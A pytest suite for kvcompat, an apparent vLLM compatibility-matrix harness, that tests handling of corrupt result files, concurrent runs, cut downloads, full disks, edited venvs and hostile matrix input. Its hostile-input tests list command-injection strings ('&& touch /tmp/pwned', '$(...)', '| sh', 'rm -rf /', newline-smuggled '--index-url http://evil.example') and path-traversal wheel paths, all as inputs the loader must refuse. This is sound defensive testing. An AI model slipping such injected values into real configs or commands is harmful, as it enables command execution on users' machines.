"""Reliability, round 2 (issue 16): bad result files, two runs of one cell, a download cut mid-wheel,
a disk that fills during the install, a hand-edited venv, hostile matrix input.

Each test names the fault it tries; the slow ones run real cells (fake vLLM wheels, real uv and
pytest) or real nox on a throwaway project.
"""

from __future__ import annotations

import json
import xml.etree.ElementTree as ET
from pathlib import Path

import pytest
from packaging.version import Version

from kvcompat.cells import MAX_RANGE_RELEASES, Cell, resolve_cells
from kvcompat.matrix import MatrixError, load_matrix
from kvcompat.outcomes import Outcome
from kvcompat.report.model import build_report
from kvcompat.report.write import write_reports
from kvcompat.results import SCHEMA, UnreadableResult, check_result, result_path, write_result
from kvcompat.run import integrity, lock
from kvcompat.run.options import RunOptions
from kvcompat.run.workflow import run_cell

from helpers import (
    REPO,
    SMALL_CELL_GB,
    IndexServer,
    build_project,
    build_wheel,
    http_index,
    make_result,
    one_line_error,
    run_nox,
)

SUITE = """
from vllm.distributed.kv_transfer.kv_connector.v1.multi_connector import first_wins

def test_first_wins():
    assert first_wins([0, 3]) == 1
"""


def run_options(tmp_path: Path, suite: Path, **kw) -> RunOptions:
    kw.setdefault("min_free_gb", float(SMALL_CELL_GB))
    kw.setdefault("results_dir", tmp_path / "results")
    return RunOptions(repo=REPO, suite=str(suite), work_dir=tmp_path / "work", **kw)


def wheel_cell(wheel: Path) -> Cell:
    return Cell(vllm="0.0.1", torch="none", wheel=wheel)


# -- 1. a corrupt or foreign results file ------------------------------------------------------------


def bad_result_files(results):
    """One good result, and one file per way a result can be unreadable: {cell id: what its line must say}."""
    good = make_result("0.33.0", "2.14.0", Outcome.PASS, [("test_load", "passed", None)], "1/1 tests passed")
    path = write_result(results, good)
    text = path.read_text()
    data = json.loads(text)
    bad = {
        "truncated": (text[: len(text) // 2], "is truncated (its JSON stops mid-value after"),
        "not-json": ("{'cell': nope}\n", "is not valid JSON (Expecting property name"),
        "schema-99": (json.dumps({**data, "schema": 99}), "was written by a newer kvcompat (result schema 99;"),
        "schema-1": (json.dumps({**data, "schema": 1}), "was written by an older kvcompat (result schema 1;"),
        "no-schema": (json.dumps({k: v for k, v in data.items() if k != "schema"}), "has no result schema version"),
        "foreign": (json.dumps(["not", "a", "result"]), "is not a kvcompat result (its JSON is a list"),
        "half-result": (
            json.dumps({"schema": SCHEMA, "outcome": "pass"}),
            "is not a complete result (no 'cell', 'detail')",
        ),
        "unknown-outcome": (json.dumps({**data, "outcome": "green"}), "is not a complete result ('green' is not"),
        "empty": ("", "is empty"),
    }
    for cell_id, (body, _) in bad.items():
        result_path(results, cell_id).write_text(body)
    (results / "mutants-vllm-0.33.0__torch-2.14.0.json").write_text("{}")  # kvcompat.mutation's: not a cell's
    return good, {cell_id: needle for cell_id, (_, needle) in bad.items()}


def test_unreadable_result_files_are_named_and_their_cells_count_as_not_run(tmp_path):
    """Fault 1, harness: each bad file is named with its reason; the report is built from the rest and
    shows every bad file's cell as not run, in every format, never green and never missing."""
    results = tmp_path / "results"
    good, bad = bad_result_files(results)
    rep = build_report([results])
    assert [r.id for r in rep.results] == [good.id]
    reasons = {u.cell_id: u for u in rep.unreadable}
    assert sorted(reasons) == sorted(bad)
    for cell_id, needle in bad.items():
        line = reasons[cell_id].line()
        assert needle in line and str(result_path(results, cell_id)) in line, line
        assert "\n" not in line and f"cell {cell_id} counts as not run: " in line
    assert "update kvcompat" in reasons["schema-99"].line() and "delete the file" in reasons["truncated"].line()
    assert [u.cell_id for u in rep.not_run] == [u.cell_id for u in rep.unreadable]

    paths = write_reports(rep, tmp_path / "reports")
    md, html, xml, data = (p.read_text() for p in paths_by_suffix(paths, ".md", ".html", ".xml", ".json"))
    not_run_md = md.split("## Not run: unreadable result files")[1].split("\n## ")[0]
    for cell_id in bad:
        assert f"**{cell_id}**" in not_run_md
        assert cell_id in html.split('class="not-run"')[1]
    # JUnit: the good cell's suite, and one error per cell not run, so CI shows them red
    tree = ET.fromstring(xml)
    not_run = tree.find("testsuite[@name='not run']")
    assert not_run is not None and not_run.get("errors") == str(len(bad))
    assert sorted(c.get("classname") for c in not_run) == sorted(bad)
    assert all(c.find("error") is not None for c in not_run)
    report = json.loads(data)
    assert sorted(x["cell"] for x in report["not_run"]) == sorted(bad)
    assert [g["cell"] for g in report["grid"]] == [good.id]  # no bad cell sits in the grid, green or otherwise
    assert report["totals"]["pass"] == 1


def test_a_bad_copy_of_a_cell_does_not_hide_its_readable_result(tmp_path):
    """Fault 1, harness: results merged from two machines, one copy truncated: the good copy stands, the bad
    file is still named."""
    a, b = tmp_path / "a", tmp_path / "b"
    good = make_result("0.33.0", "2.14.0", Outcome.PASS, [("test_load", "passed", None)])
    write_result(a, good)
    result_path(b, good.id).parent.mkdir(parents=True)
    result_path(b, good.id).write_text(result_path(a, good.id).read_text()[:100])
    rep = build_report([a, b])
    assert [r.id for r in rep.results] == [good.id]
    assert [u.path for u in rep.unreadable] == [result_path(b, good.id)] and rep.not_run == []


def test_results_carry_their_schema_and_only_that_schema_is_read(tmp_path):
    path = write_result(tmp_path, make_result())
    assert json.loads(path.read_text())["schema"] == SCHEMA
    assert check_result(path).outcome is Outcome.PASS
    assert check_result(tmp_path / "absent.json") is None
    path.write_text(json.dumps({**json.loads(path.read_text()), "schema": SCHEMA - 1}))
    assert isinstance(check_result(path), UnreadableResult)


@pytest.mark.slow
def test_nox_report_names_each_bad_file_in_one_line(tmp_path):
    """Fault 1, through real nox: `nox -s report` warns once per bad file and writes the report from the rest."""
    project = build_project(tmp_path / "proj", SUITE)
    _, bad = bad_result_files(project / "results")
    proc = run_nox(project, "-s", "report")
    assert proc.returncode == 0 and "Traceback" not in proc.stdout + proc.stderr, proc.stdout + proc.stderr
    warnings = [ln for ln in proc.stderr.splitlines() if ln.startswith("kvcompat: warning: ")]
    assert len(warnings) == len(bad), proc.stderr
    for cell_id, needle in bad.items():
        assert sum(f"{cell_id}.json {needle}" in w for w in warnings) == 1, (cell_id, warnings)
    assert "pass 1/1" in proc.stdout  # the grid, from the one good file
    assert "## Not run: unreadable result files" in (project / "reports" / "compat.md").read_text()


@pytest.mark.slow
def test_a_cell_whose_result_file_is_corrupt_runs_again(tmp_path, fake_wheel, make_suite):
    """Fault 1, harness: a truncated result is never an answer for its cell: the cell runs and rewrites it."""
    options, cell, lines = run_options(tmp_path, make_suite(test_ok=SUITE)), wheel_cell(fake_wheel()), []
    first = run_cell(cell, tmp_path / "venv", options, progress=lambda s: None)
    assert first.outcome is Outcome.PASS
    result_path(options.results_dir, cell.id).write_text('{"schema": 2, "cell": {"id"')
    again = run_cell(cell, tmp_path / "venv", options, progress=lines.append)
    assert any("is truncated (its JSON stops mid-value after" in ln and "running the cell" in ln for ln in lines)
    assert again.outcome is Outcome.PASS and again.finished >= first.finished
    assert check_result(result_path(options.results_dir, cell.id)).outcome is Outcome.PASS


# -- 2. two runs of the same cell at once ---------------------------------------------------------------

HANGING_SUITE = """
import os, time
from vllm.distributed.kv_transfer.kv_connector.v1.multi_connector import first_wins

def test_first_wins():
    if os.environ.get("KVCOMPAT_TEST_HANG"):
        open(os.environ["KVCOMPAT_TEST_HANG"], "w").write(str(os.getpid()))
        time.sleep(600)
    assert first_wins([0, 3]) == 1
"""


def test_a_cell_held_by_another_run_refuses_before_touching_anything(tmp_path, fake_wheel, make_suite):
    """Fault 2, harness: while the cell's lock is held, a run refuses at once and writes nothing."""
    options, cell, venv = run_options(tmp_path, make_suite(test_ok=SUITE)), wheel_cell(fake_wheel()), tmp_path / "venv"
    with lock.held(venv, cell.id):
        with pytest.raises(lock.CellBusyError) as busy:
            run_cell(cell, venv, options, progress=lambda s: None)
    message = str(busy.value)
    assert f"cell {cell.id} is being run by pid {__import__('os').getpid()} on " in message and "\n" not in message
    assert "wait for that run to finish or stop it, then rerun" in message
    assert not venv.exists() and not (options.results_dir).exists() and not (tmp_path / "work").exists()


@pytest.mark.slow
def test_two_nox_matrix_runs_at_once_never_share_a_venv(tmp_path):
    """Fault 2, through real nox: a second `nox -s matrix` while the first is inside the cell's pytest
    exits 2 in one line naming the first run; after the first is killed (SIGKILL: no cleanup at all),
    the cell runs again and passes."""
    import os
    import signal
    import subprocess
    import time

    from helpers import nox_command

    project = build_project(tmp_path / "proj", HANGING_SUITE, versions=("0.0.1",))
    pidfile = tmp_path / "hung.pid"
    first = subprocess.Popen(
        nox_command(project, "-s", "matrix"),
        cwd=project,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
        env={**os.environ, "KVCOMPAT_TEST_HANG": str(pidfile)},
        start_new_session=True,
    )
    try:
        deadline = time.monotonic() + 180
        while not (pidfile.exists() and pidfile.read_text()) and time.monotonic() < deadline:
            time.sleep(0.2)
        assert pidfile.exists(), "the first run never reached its pytest"
        second = run_nox(project, "-s", "matrix")
        err = one_line_error(second)
        assert f"is being run by pid {first.pid} on " in err and "(`nox -f " in err and "-s matrix" in err, err
        assert "install …" not in second.stdout + second.stderr  # it never touched the venv
    finally:
        os.killpg(first.pid, signal.SIGKILL)
        first.wait()
    third = run_nox(project, "-s", "matrix")
    assert third.returncode == 0, third.stdout + third.stderr


# -- 3. a download cut mid-wheel ----------------------------------------------------------------------


def release_on_http_index(tmp_path: Path, version: str = "99.0.0", blob_mb: int = 3) -> Path:
    """A fake vLLM release of a few MB (random, so it does not compress) on an http_index folder."""
    import os

    from helpers import FAKE_CONNECTOR_FILES

    folder = tmp_path / "wheels"
    folder.mkdir()
    blob = os.urandom(blob_mb * 2**20 // 2).hex()  # hex: a text file the size of blob_mb
    wheel = build_wheel(folder, {**FAKE_CONNECTOR_FILES, "vllm/blob.txt": blob}, version=version)
    http_index(tmp_path / "index", [wheel])
    return tmp_path / "index"


@pytest.mark.slow
def test_a_download_cut_mid_wheel_is_retried_then_an_install_error_and_leaves_no_poisoned_cache(
    tmp_path, make_suite, monkeypatch
):
    """Fault 3, harness: the index (HTTP on 127.0.0.1) closes every vLLM wheel download after 1 MB of its 6 MB.
    The install is retried, then the cell is an install error naming the cut; with the same index healthy
    again (same URLs, same uv cache), the next run passes."""
    monkeypatch.setenv("UV_CACHE_DIR", str(tmp_path / "uv-cache"))  # its own cache, to see it is not poisoned
    monkeypatch.setenv("UV_HTTP_RETRIES", "0")  # uv's own retries only slow this down; ours is the one tried
    folder, suite, cell = release_on_http_index(tmp_path), make_suite(test_ok=SUITE), Cell(vllm="99.0.0", torch="none")
    with IndexServer(folder, cut_after=2**20) as index:
        options = run_options(tmp_path, suite, index_url=index.url)
        lines: list[str] = []
        cut = run_cell(cell, tmp_path / "venv", options, progress=lines.append)
        port = index.url
        assert cut.outcome is Outcome.INSTALL_ERROR, cut.detail
        assert cut.detail == (
            "install failed twice: Failed to download `vllm==99.0.0` (end of file before message length reached)"
        )
        assert any("install attempt 1 failed; retrying" in ln for ln in lines)
        assert len(index.cuts) >= 2  # one per attempt at least
        index.cut_after = None  # the same server, now whole
        assert index.url == port
        lines.clear()
        healed = run_cell(cell, tmp_path / "venv", options, progress=lines.append)
    assert healed.outcome is Outcome.PASS, healed.detail + healed.log_tail
    assert healed.versions["vllm"] == "99.0.0"


# -- 4. a disk that fills during the install -----------------------------------------------------------


@pytest.fixture
def small_disk(tmp_path):
    """A 12 MiB tmpfs the test mounts (root only): a disk that really fills up, without filling this machine's."""
    import subprocess

    mount = tmp_path / "small-disk"
    mount.mkdir()
    proc = subprocess.run(["mount", "-t", "tmpfs", "-o", "size=12m", "tmpfs", str(mount)], capture_output=True)
    if proc.returncode != 0:
        pytest.skip(f"cannot mount a tmpfs here ({proc.stderr.decode().strip()}): needs root")
    yield mount
    subprocess.run(["umount", "--lazy", str(mount)], check=True)


@pytest.mark.slow
def test_a_disk_filling_during_the_install_is_an_install_error_and_leaves_no_half_built_venv(
    tmp_path, small_disk, fake_wheel, make_suite
):
    """Fault 4, harness: the venv lives on a 12 MiB disk and the vLLM wheel unpacks to 20 MiB, so the disk fills
    in the middle of uv's copy.  Install error naming the disk, not retried, the half-built venv removed, and
    one whole result file (no temporary left)."""
    import os

    options = run_options(tmp_path, make_suite(test_ok=SUITE), min_free_gb=0.001)  # the check before passes
    wheel = fake_wheel(extra={"vllm/blob.txt": os.urandom(10 * 2**20).hex()})
    lines: list[str] = []
    result = run_cell(wheel_cell(wheel), small_disk / "venv", options, progress=lines.append)
    assert result.outcome is Outcome.INSTALL_ERROR
    assert result.detail.startswith(
        f"the disk under {small_disk} filled up during the install (No space left on device); the half-built "
        "venv was removed"
    ), result.detail
    assert "No space left on device (os error 28)" in result.log_tail
    assert not any("retrying" in ln for ln in lines)
    assert not (small_disk / "venv").exists()
    assert [p.name for p in options.results_dir.iterdir()] == [f"{result.id}.json"]
    assert check_result(result_path(options.results_dir, result.id)).outcome is Outcome.INSTALL_ERROR


@pytest.mark.slow
def test_a_full_disk_under_results_is_one_line_and_leaves_no_half_written_result(
    tmp_path, small_disk, fake_wheel, make_suite
):
    """Fault 4, harness: the results folder is on a disk that is full when the cell ends: one line naming the
    disk (kvcompat.run.install.DiskFullError, exit 2 at the front door), no result file and no temporary."""
    from kvcompat.run.install import DiskFullError

    results = small_disk / "results"
    results.mkdir()
    options = run_options(tmp_path, make_suite(test_ok=SUITE), results_dir=results)
    with open(small_disk / "filler", "wb") as filler:  # fill the disk to the last block
        try:
            while True:
                filler.write(b"\0" * 2**16)
                filler.flush()
        except OSError:
            pass
    with pytest.raises(DiskFullError) as full:
        run_cell(wheel_cell(fake_wheel()), tmp_path / "venv", options, progress=lambda s: None)
    assert "no space left on the disk for" in str(full.value) and "and rerun" in str(full.value)
    assert list(results.iterdir()) == []


def test_a_log_on_a_full_disk_does_not_stall_the_command(tmp_path):
    """Fault 4, harness: the cell log cannot be written (/dev/full: every write is ENOSPC) while a command prints
    3000 lines (300 KB, more than a pipe holds): the output is still read to the end and the command finishes."""
    import sys

    from kvcompat.run.cellfiles import CellFiles
    from kvcompat.run.process import run_command

    class FullDiskFiles(CellFiles):
        @property
        def log(self) -> Path:
            return Path("/dev/full")

        def append_log(self, text: str) -> None:
            pass

    files = FullDiskFiles(tmp_path, tmp_path / "results", "cell")
    cmd = [sys.executable, "-c", "for i in range(3000): print('x' * 100)"]
    rc, out = run_command(cmd, files, timeout=20, heartbeat_s=30, say=lambda s: None, phase="install", cwd=tmp_path)
    assert rc == 0 and len(out) > 300_000


# -- 5. a hand-edited venv ---------------------------------------------------------------------------

CONNECTOR = "vllm/distributed/kv_transfer/kv_connector/v1/multi_connector.py"


def site_packages(venv: Path) -> Path:
    return next(venv.glob("lib/python*/site-packages"))


def replace_file(path: Path, text: str) -> None:
    """Edit a venv file without writing through its hardlink: uv's cache (shared by other tests) stays intact."""
    path.unlink()
    path.write_text(text)


@pytest.mark.slow
def test_a_hand_edited_venv_refuses_to_run_and_is_never_a_pass(tmp_path, fake_wheel, make_suite):
    """Fault 5, harness: after a passing run, the connector file is edited (first_wins made to always say 1):
    the rerun refuses before any test, naming the file and the fix, and the result becomes an install error."""
    options, cell = run_options(tmp_path, make_suite(test_ok=SUITE), force=True), wheel_cell(fake_wheel())
    venv = tmp_path / "venv"
    first = run_cell(cell, venv, options, progress=lambda s: None)
    assert first.outcome is Outcome.PASS and first.integrity == {"dist": "vllm", "files": 4}
    site = site_packages(venv)
    replace_file(site / CONNECTOR, "def first_wins(children):\n    return 1\n")
    lines: list[str] = []
    with pytest.raises(integrity.EditedVenvError) as refused:
        run_cell(cell, venv, options, progress=lines.append)
    message = str(refused.value)
    assert "edited: kv_connector/v1/multi_connector.py under vllm/distributed/kv_transfer/" in message, message
    assert f"delete the venv (rm -rf {venv}), then rerun" in message and "\n" not in message
    assert not any("test …" in ln for ln in lines)  # refused before pytest started
    on_disk = check_result(result_path(options.results_dir, cell.id))
    assert on_disk.outcome is Outcome.INSTALL_ERROR and on_disk.detail == message

    # The edit went through a hardlink (as an in-place edit of a uv-installed file does): uv's copy is edited too.
    (tmp_path / "uv-cache-copy.py").hardlink_to(site / CONNECTOR)
    with pytest.raises(integrity.EditedVenvError, match=r"uv cache clean vllm; other venvs of this release share it"):
        run_cell(cell, venv, options, progress=lambda s: None)

    # Deleting the venv, as the message says, mends it: the release's files are back and the cell passes.
    import shutil

    shutil.rmtree(venv)
    assert run_cell(cell, venv, options, progress=lambda s: None).outcome is Outcome.PASS


def test_record_check_names_edited_missing_and_added_files(tmp_path, fake_wheel):
    """Fault 5, harness: the check itself, on an unpacked fake wheel (no venv needed)."""
    import zipfile

    site = tmp_path / "site"
    zipfile.ZipFile(fake_wheel()).extractall(site)
    assert integrity.check(site, "vllm").ok
    (site / CONNECTOR).write_text("# edited\n")
    (site / "vllm/distributed/kv_transfer/__init__.py").unlink()
    (site / "vllm/distributed/kv_transfer/kv_connector/v1/extra.py").write_text("X = 1\n")
    (site / "vllm/distributed/kv_transfer/__pycache__").mkdir()
    (site / "vllm/distributed/kv_transfer/__pycache__/x.cpython-311.pyc").write_bytes(b"written by every run")
    verdict = integrity.check(site, "vllm")
    assert (verdict.edited, verdict.missing, verdict.added) == (
        [CONNECTOR],
        ["vllm/distributed/kv_transfer/__init__.py"],
        ["vllm/distributed/kv_transfer/kv_connector/v1/extra.py"],
    )
    line = integrity.refusal(verdict, tmp_path / "venv")
    assert (
        "edited: kv_connector/v1/multi_connector.py; missing: __init__.py; not in RECORD: kv_connector/v1/extra.py"
        in line
    )
    assert not integrity.check(tmp_path / "empty", "vllm").ok  # no RECORD at all: nothing to trust


@pytest.mark.slow
def test_nox_matrix_on_an_edited_venv_is_one_line_and_exit_2(tmp_path):
    """Fault 5, through real nox: the edited cell refuses in one line (exit 2); the report does not show it green."""
    project = build_project(tmp_path / "proj", SUITE, versions=("0.0.1",))
    assert run_nox(project, "-s", "matrix").returncode == 0
    venv = next(p for p in (project / ".kvcompat" / "venvs").iterdir() if p.is_dir())  # not its .lock
    replace_file(site_packages(venv) / CONNECTOR, "def first_wins(children):\n    return 1\n")
    err = one_line_error(run_nox(project, "-s", "matrix", "--", "--force"))
    assert "edited: kv_connector/v1/multi_connector.py" in err and f"rm -rf {venv}" in err, err
    report = run_nox(project, "-s", "report")
    assert "install error" in report.stdout and "pass" not in report.stdout, report.stdout


# -- 6. hostile matrix input --------------------------------------------------------------------------


@pytest.mark.parametrize(
    "entry, needle",
    [
        # a wheel outside the project: by a relative path, an absolute one, or a symlink inside that points out
        ("{ vllm = '../outside/vllm-0.0.1-py3-none-any.whl' }", "outside/vllm-0.0.1-py3-none-any.whl, outside the"),
        ("{ vllm = '@OUTSIDE@' }", "outside the project"),
        ("{ vllm = 'dist/link-0.0.1-py3-none-any.whl' }", "outside the project"),
        # a wheel path that would be more than one line (or an option) in uv's requirements file
        ('{ vllm = "dist/x\\n--index-url=http://evil.example/vllm-0.0.1-py3-none-any.whl" }', "has characters"),
        ("{ vllm = 'dist/a b;c#vllm-0.0.1-py3-none-any.whl' }", "[' ', '#', ';']"),
        # a .whl that is no wheel name, or another project's wheel
        ("{ vllm = 'dist/vllm.whl' }", "is not a wheel file name"),
        ("{ vllm = 'dist/torch-2.0.0-py3-none-any.whl' }", "is a wheel of torch, not of vllm"),
        # TOML entries with unknown keys or wrongly typed ones
        ("{ vllm = '0.33.0', command = 'rm -rf /' }", "unknown key(s) ['command']; allowed keys are"),
        ("{ vllm = '0.33.0', pre = 'yes' }", "pre must be true or false, got 'yes'"),
        # override lines with shell metacharacters: never a requirement, so never near uv
        ("{ vllm = '0.34.0', overrides = ['x==1 && touch /tmp/pwned'] }", "is not a requirement"),
        ("{ vllm = '0.34.0', overrides = ['x==1`touch /tmp/pwned`'] }", "is not a requirement"),
        ("{ vllm = '0.34.0', overrides = ['x==1 | sh'] }", "is not a requirement"),
        ("{ vllm = '0.34.0', overrides = ['x==1 $(touch /tmp/pwned)'] }", "is not a requirement"),
        ('{ vllm = "0.34.0", overrides = ["x==1\\n--index-url http://evil.example"] }', "is not a requirement"),
        ("{ vllm = '0.34.0', overrides = ['x==1; sys_platform != \"\"'] }", "must be a name and a version"),
    ],
)
def test_hostile_matrix_entries_are_one_line_errors(tmp_path, entry, needle):
    """Fault 6, harness: each hostile entry is refused when the matrix loads, in one line naming the fix."""
    project, outside = tmp_path / "project", tmp_path / "outside"
    for folder in (project / "dist", outside):
        folder.mkdir(parents=True)
    for name in (
        "vllm.whl",
        "torch-2.0.0-py3-none-any.whl",
        "x\n--index-url=http:",
        "a b;c#vllm-0.0.1-py3-none-any.whl",
    ):
        (project / "dist" / name).mkdir() if name.endswith(":") else (project / "dist" / name).write_bytes(b"")
    wheel = build_wheel(outside, {"vllm/__init__.py": ""})
    (project / "dist" / "link-0.0.1-py3-none-any.whl").symlink_to(wheel)
    matrix = project / "m.toml"
    matrix.write_text("[matrix]\ndefault = [" + entry.replace("@OUTSIDE@", str(wheel)) + "]\n")
    with pytest.raises(MatrixError) as err:
        load_matrix(matrix, project=project)
    assert needle in str(err.value) and "\n" not in str(err.value), str(err.value)


def test_a_range_matching_300_releases_is_refused_before_any_lookup(tmp_path):
    """Fault 6, harness: a range over 300 releases is refused without asking the index for a single torch pin;
    one within the bound expands, asking once per release."""
    releases = [Version(f"0.{m}.{p}") for m in range(30) for p in range(10)]
    asked: list[str] = []

    def cells(spec: str):
        return resolve_cells(
            [load_matrix(write_matrix(tmp_path, f"{{ vllm = '{spec}' }}"))[0]],
            constraints_dir=tmp_path,
            cache_root=tmp_path,
            available=lambda dist: releases,
            pinned_torch=lambda cell: asked.append(cell.vllm) or "2.13.0",
        )

    with pytest.raises(MatrixError) as err:
        cells(">=0")
    assert f"vllm>=0 matches 300 releases (0.0.0 .. 0.29.9), more than the {MAX_RANGE_RELEASES} one range" in str(
        err.value
    )
    assert "narrow it (e.g. >=0.25.0) or list the releases you mean" in str(err.value) and asked == []
    assert len(cells(">=0.25.0")) == MAX_RANGE_RELEASES == len(asked)


def write_matrix(folder: Path, entry: str) -> Path:
    path = folder / "m.toml"
    path.write_text(f"[matrix]\ndefault = [{entry}]\n")
    return path


def test_no_harness_command_goes_through_a_shell():
    """Fault 6, harness: every command kvcompat runs is an argument list: no shell=True, os.system or os.popen,
    and no subprocess call given one string, anywhere in the harness or the noxfile."""
    import ast

    found = []
    for path in [REPO / "noxfile.py", *sorted((REPO / "src" / "kvcompat").rglob("*.py"))]:
        for node in ast.walk(ast.parse(path.read_text())):
            if not isinstance(node, ast.Call):
                continue
            name = ast.unparse(node.func)
            where = f"{path.relative_to(REPO)}:{node.lineno}"
            if any(
                k.arg == "shell" and not (isinstance(k.value, ast.Constant) and not k.value.value)
                for k in node.keywords
            ):
                found.append(f"{where} shell=")
            if name in ("os.system", "os.popen", "subprocess.getoutput", "subprocess.getstatusoutput"):
                found.append(f"{where} {name}")
            if name.startswith("subprocess.") and node.args and isinstance(node.args[0], (ast.Constant, ast.JoinedStr)):
                found.append(f"{where} {name} with a string")
    assert found == []


@pytest.mark.slow
def test_nox_on_a_300_release_range_is_one_line_and_exit_2(tmp_path):
    """Fault 6, through real nox: an index of 300 (fake) vLLM releases and `vllm = ">=0"`: `nox -l` refuses in
    one line, exit 2, within seconds (no cell is resolved)."""
    import time

    project = build_project(tmp_path / "proj", SUITE, versions=("0.0.1",))
    folder = tmp_path / "index"
    folder.mkdir()
    wheels = [build_wheel(folder, {"vllm/__init__.py": ""}, version=f"0.{m}.{p}") for m in range(30) for p in range(10)]
    http_index(folder, wheels)
    (project / "m.toml").write_text('[matrix]\ndefault = [{ vllm = ">=0" }]\n')
    t0 = time.monotonic()
    with IndexServer(folder) as index:
        proc = run_nox(project, "-l", env={"KVCOMPAT_MATRIX": str(project / "m.toml"), "UV_DEFAULT_INDEX": index.url})
    err = one_line_error(proc)
    assert "vllm>=0 matches 300 releases (0.0.0 .. 0.29.9)" in err and time.monotonic() - t0 < 60


def paths_by_suffix(paths, *suffixes):
    return [next(p for p in paths if p.suffix == s) for s in suffixes]


def test_the_cell_files_say_where_a_cells_venv_and_its_site_packages_are(tmp_path):
    from kvcompat.cells import Cell
    from kvcompat.run.cellfiles import CellFiles

    cell = Cell(vllm="0.34.0", torch="2.14.0", python="3.12")
    venv = CellFiles.venv(tmp_path, cell)
    assert venv == tmp_path / ".kvcompat" / "venvs" / cell.id
    assert CellFiles.site_packages(venv) is None  # not created yet
    site = venv / "lib" / "python3.12" / "site-packages"  # whichever Python built it, not a hard-coded 3.11
    site.mkdir(parents=True)
    assert CellFiles.site_packages(venv) == site
